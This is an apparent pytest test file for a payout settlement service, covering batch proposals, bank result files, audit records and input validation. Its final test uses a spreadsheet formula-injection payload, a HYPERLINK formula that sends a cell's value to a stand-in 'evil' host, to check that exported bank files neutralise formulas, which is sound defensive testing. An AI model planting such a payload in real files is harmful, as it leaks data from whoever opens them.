"""What a bank file and its result decide of a line, in whatever order they are made."""

import csv
import io
from datetime import date
from typing import Any

import openpyxl
import pytest
from msgspec.structs import replace

from chalicelib.settlement.bank_files import Transfer, csv_file, xlsx_file
from chalicelib.settlement.payees import PayeeAccount
from chalicelib.settlement.payout_batches import LineResult, PayoutBatch, PayoutLine
from chalicelib.settlement.ports import PayoutStore
from chalicelib.settlement.wiring import SettlementWiring
from tests import builders
from tests.conftest import Stack
from tests.cutting import KilledError
from tests.settlement.settled_shops import SHOP
from tests.settlement.test_payouts import (
    MART,
    PAYOUT_ON,
    FakePayees,
    approved,
    call,
    file,
    payees,
    propose,
    results,
    sent_to_bank,
    statuses,
)

__all__ = ["payees"]


def test_lines_of_a_proposal_that_was_cut_off_are_nobodys(stack: Stack, payees: FakePayees) -> None:
    def end(operation: str, name: str) -> None:
        if "/payouts/" in name:
            raise KilledError

    stack.s3.after_call = end
    with pytest.raises(KilledError):
        propose(stack, by="chan")
    stack.s3.after_call = lambda operation, name: None
    payees.change(MART, held_for="tax_closed")

    made = propose(stack)
    shown = call(stack, "GET", f"payout-batches/{made.json['batch_id']}").json

    assert (made.json["line_count"], made.json["amount"]) == (1, 1_990)
    assert [line["merchant_id"] for line in shown["lines"]] == [SHOP]


def test_lines_that_an_earlier_release_kept_stay_readable(stack: Stack, payees: FakePayees) -> None:
    batch = propose(stack).json
    files = stack.s3.objects
    name = f"{builders.COUNTY}/payouts/{PAYOUT_ON}/001"
    files[f"{name}.json"] = files.pop(f"{name}-{batch['hash']}.json")

    shown = call(stack, "GET", f"payout-batches/{batch['batch_id']}").json

    assert [line["amount"] for line in shown["lines"]] == [1_990, 995]


def test_only_the_bank_ends_a_line_that_was_in_a_file(stack: Stack, payees: FakePayees) -> None:
    batch_id = approved(stack)
    first, second = f"{batch_id}-00001", f"{batch_id}-00002"
    assert "0098765432" in file(stack, batch_id).raw.decode("utf-8-sig")
    payees.change(MART, account_id="acc-other")

    later = file(stack, batch_id).raw.decode("utf-8-sig")
    shown = call(stack, "GET", f"payout-batches/{batch_id}").json
    said = results(stack, batch_id, (first, "정상", ""), (second, "정상", "")).json

    assert "0098765432" not in later
    assert [line["result"] for line in shown["lines"]] == [None, None]
    assert (said["status"], said["paid_amount"]) == ("completed", 2_985)
    assert propose(stack).json["code"] == "nothing_to_pay"


def test_what_the_first_file_left_out_no_later_one_has(stack: Stack, payees: FakePayees) -> None:
    """Its maker was cut off before the line's failure was written; the account is back since."""
    batch_id = approved(stack)
    store = stack.wired(SettlementWiring).payout_store
    batch = store.by_id(builders.COUNTY, batch_id)
    assert batch is not None
    store.keep_left_out(batch, [f"{batch_id}-00002"])

    text = file(stack, batch_id).raw.decode("utf-8-sig")

    assert "0098765432" not in text
    assert statuses(stack) == ["confirmed", "failed"]
    refused = results(stack, batch_id, (f"{batch_id}-00002", "정상", ""))
    assert (refused.status, refused.json["reference"]) == (409, f"{batch_id}-00002")


def test_who_brought_a_result_in_is_kept_once(stack: Stack, payees: FakePayees) -> None:
    batch_id = approved(stack)
    sent_to_bank(stack, batch_id)
    stack.later(seconds=1)
    said = [(f"{batch_id}-00001", "오류", "계좌 해지"), (f"{batch_id}-00002", "정상", "")]
    for _ in range(2):
        assert results(stack, batch_id, *said).status == 200
        stack.later(seconds=1)
    assert results(stack, batch_id, (f"{batch_id}-00001", "정상", "")).status == 409

    stack.staff_roles = frozenset({"auditor"})
    audit = call(stack, "GET", f"audit?target_id={batch_id}").json["data"]

    assert [(each["action"], each["by"]) for each in audit] == [
        ("payout_results_taken", "anna"), ("payout_file_made", "anna"),
    ]  # fmt: skip
    after = audit[0]["after"]
    assert (after["failed_lines"], after["failed_amount"]) == (1, 1_990)
    assert (after["paid_lines"], after["paid_amount"], len(after["sha256"])) == (1, 995, 64)


def test_a_result_reads_the_locked_file_once_and_the_lines_results_twice(
    stack: Stack, payees: FakePayees
) -> None:
    """As they are before, and as they are after the write."""
    batch_id = approved(stack)
    sent_to_bank(stack, batch_id)
    read: list[str] = []
    stack.s3.before_call = lambda name, key: read.append(key)
    payouts = stack.wired(SettlementWiring).payouts
    counted = CountedResults(payouts.store)
    stack.wired(SettlementWiring).__dict__["payouts"] = replace(payouts, store=counted)

    answer = results(stack, batch_id, (f"{batch_id}-00001", "정상", "")).json

    assert [line["result"] for line in answer["lines"]] == ["paid", None]
    (name,) = read
    assert name.startswith("gangjin/payouts/2026-11-25/001-")
    assert counted.count == 2


class CountedResults:
    def __init__(self, store: PayoutStore) -> None:
        self._store, self.count = store, 0

    def results(self, batch: PayoutBatch) -> dict[str, LineResult]:
        self.count += 1
        return self._store.results(batch)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._store, name)


@pytest.mark.parametrize(
    ("first", "second"),
    [('"계좌 해지', ""), ('"계좌 해지', '"'), ("계좌\u202e해지", "")],
)
def test_a_stray_quotation_mark_gives_no_shop_the_lines_of_others(
    stack: Stack, payees: FakePayees, first: str, second: str
) -> None:
    batch_id = approved(stack)
    said = [(f"{batch_id}-00001", "오류", first), (f"{batch_id}-00002", "정상", second)]

    refused = results(stack, batch_id, *said)

    assert (refused.status, refused.json["code"]) == (400, "result_file_invalid")
    assert statuses(stack) == ["confirmed", "confirmed"]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＋", "－", "＠", " =", "\t="])
def test_no_cell_of_a_bank_file_is_a_formula(sign: str) -> None:
    holder = f'{sign}HYPERLINK("http://evil/"&B2,"x")'
    line = PayoutLine(
        reference="pyt_20261125001-00001",
        merchant_id=MART,
        name=f"{sign}1+1",
        account_id="acc-1",
        amount=5,
        parts=((date(2026, 11, 22), 5),),
    )
    account = PayeeAccount(account_id="acc-1", bank_code="011", number="001", holder=holder)
    transfers = [Transfer(line, account)]

    rows = list(csv.reader(io.StringIO(csv_file(transfers, f"{sign}강진").decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_file(transfers, f"{sign}강진"))).active

    assert rows[1][3:6] == ['HYPERLINK("http://evil/"&B2,"x")', "강진", "1+1"]
    assert [str(cell.value) for cell in sheet[2]] == rows[1]
